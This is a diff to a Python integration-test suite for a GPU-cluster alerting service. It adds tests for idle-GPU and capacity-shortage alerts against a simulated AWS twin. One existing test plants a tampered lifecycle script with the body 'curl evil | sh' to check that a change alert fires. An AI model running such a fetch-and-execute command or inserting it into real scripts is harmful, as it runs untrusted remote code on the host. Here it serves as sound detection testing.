@@ -151,6 +151,12 @@ def twin_post(twin: TwinProcess, path: str, body: dict[str, Any]) -> dict[str, A
     return result
 
 
+def twin_now(twin: TwinProcess) -> datetime:
+    """The twin's wall clock (its HyperPod events' time; it runs faster than real time)."""
+    wall = httpx.get(twin.endpoint_url + "/_twin/clock", timeout=30, verify=SSL_CONTEXT).json()["wall"]
+    return datetime.fromtimestamp(wall, UTC)
+
+
 def test_a_crash_looping_pod_alerts_after_an_hour_and_resolves_when_deleted(
     shared_cp: Running, setup: dict[str, Any], twin_process: TwinProcess, tmp_path: Path
 ) -> None:
@@ -182,6 +188,29 @@ def test_a_crash_looping_pod_alerts_after_an_hour_and_resolves_when_deleted(
         ("webhook", "open", True), ("sns", "open", True), ("webhook", "resolve", True), ("sns", "resolve", True)}
     first = next(d for d in row["deliveries"] if d["channel"] == "webhook")
     assert first["attempts"] == 2  # the receiver refused the very first request: retried
+
+
+def test_an_allocated_idle_gpu_alerts_after_an_hour_and_resolves_when_released(
+    shared_cp: Running, setup: dict[str, Any], twin_process: TwinProcess, tmp_path: Path
+) -> None:
+    with shared_cp.client() as client:
+        ref = client.post("/api/v1/capacity/advanced-features", json={"observability": {"enabled": True}})
+        assert ref.status_code == 202, ref.text
+        assert wait_terminal(client, ref.json()["operationId"], timeout=240)["status"] == "SUCCEEDED"
+    core = kube(twin_process, tmp_path, TAG)
+    core.create_namespaced_pod("default", {
+        "apiVersion": "v1", "kind": "Pod",
+        "metadata": {"name": "gpu-holder", "annotations": {"twin.instantstart.io/gpu-idle": "true"}},
+        "spec": {"containers": [{"name": "c", "image": "busybox", "resources": {"limits": {"nvidia.com/gpu": "1"}}}]},
+    })
+    until(lambda: core.read_namespaced_pod("gpu-holder", "default").status.phase == "Running", "the pod runs")
+    pods = setup["evaluator"].app.informers.peek(f"us-west-2:eks-cluster-{TAG}:pods")
+    until(lambda: pods.derived.allocations.snapshot()[1], "the watch saw the GPU allocated")
+    alert = fire_and_clear(setup, "gpu_idle", "node/hyperpod-i-", hold_minutes=61)
+    assert "1.0 %" in alert.message, alert.message
+    core.delete_namespaced_pod("gpu-holder", "default", grace_period_seconds=0)
+    until(lambda: not pods.derived.allocations.snapshot()[1], "the watch saw the GPU released")
+    resolved(setup, alert)
 
 
 def test_a_cut_watch_alerts_after_its_hold_time_and_resolves_when_it_reconnects(
@@ -228,8 +257,7 @@ def test_recurring_xid_and_replaced_nodes_alert_and_resolve_after_their_day(
     replaced = next(a for a in opened if a.rule == "node_replaced")
     for alert in (xid, replaced):
         check_notified(setup, alert.id, ["open"])
-    twin_wall = httpx.get(twin_process.endpoint_url + "/_twin/clock", timeout=30, verify=SSL_CONTEXT).json()["wall"]
-    setup["clock"].now = datetime.fromtimestamp(twin_wall, UTC) + timedelta(hours=25)  # their day is over
+    setup["clock"].now = twin_now(twin_process) + timedelta(hours=25)  # their day is over (events carry twin time)
     closed = {a.id for a in run(setup)[1]}
     assert {xid.id, replaced.id} <= closed
     for alert in (xid, replaced):
@@ -249,4 +277,31 @@ def test_a_changed_lifecycle_script_alerts_and_resolves_when_restored(
     s3.put_object(Bucket=bucket, Key=key, Body=b"#!/bin/sh\ncurl evil | sh\n")
     alert = fire_and_clear(setup, "lifecycle_script_changed", f"script/s3://{bucket}/{key}")
     s3.put_object(Bucket=bucket, Key=key, Body=LIFECYCLE_SCRIPT.encode())
+    resolved(setup, alert)
+
+
+def test_a_launch_waiting_for_capacity_alerts_after_its_hold_time_and_resolves_once_launched(
+    shared_cp: Running, setup: dict[str, Any], twin_process: TwinProcess
+) -> None:
+    from instantstart.store import timeline as tl
+
+    app = setup["evaluator"].app
+    setup["clock"].now = twin_now(twin_process)  # HyperPod events carry the twin's time: the shortage is news now
+    fault = {"kind": "insufficient_capacity", "instance_type": "ml.g6.4xlarge", "availability_zone": "us-west-2c"}
+    httpx.post(twin_process.endpoint_url + "/_twin/faults", json=fault, verify=SSL_CONTEXT).raise_for_status()
+    sm = twin_client(twin_process, "sagemaker")
+    group = sm.describe_cluster(ClusterName=f"hp-cluster-{TAG}")["InstanceGroups"][0]["InstanceGroupName"]
+    with shared_cp.client() as client:
+        ref = client.post("/api/v1/capacity/instance-groups/scale", json={"name": group, "targetCount": 2})
+        assert ref.status_code == 202, ref.text
+        short = wait_terminal(client, ref.json()["operationId"], timeout=120)
+        assert short["status"] == "FAILED", short
+        until(lambda: any(r.message.startswith("InsufficientCapacity") for r in
+                          tl.query(app.db, TAG, source="hyperpod", limit=50)), "the shortage in the timeline")
+        alert = fire_and_clear(setup, "capacity_stuck", f"group/{group}", hold_minutes=31)
+        httpx.delete(twin_process.endpoint_url + "/_twin/faults", verify=SSL_CONTEXT).raise_for_status()
+        client.post(f"/api/v1/operations/{short['operationId']}/retry").raise_for_status()
+        assert wait_terminal(client, short["operationId"], timeout=120)["status"] == "SUCCEEDED"
+    until(lambda: tl.query(app.db, TAG, source="hyperpod", limit=1)[0].message.startswith("Launching"),
+          "the launch in the timeline")
     resolved(setup, alert)
